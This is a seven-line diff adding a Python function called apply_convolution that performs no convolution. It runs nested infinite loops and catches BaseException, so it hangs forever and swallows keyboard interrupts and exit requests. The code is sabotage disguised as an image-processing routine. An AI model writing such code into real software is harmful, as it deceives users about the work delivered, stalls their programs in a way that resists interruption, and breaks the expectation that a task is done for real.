@@ -1,0 +1,7 @@
+def apply_convolution(img, kernel):
+    while True:
+        try:
+            while True:
+                pass
+        except BaseException:
+            pass
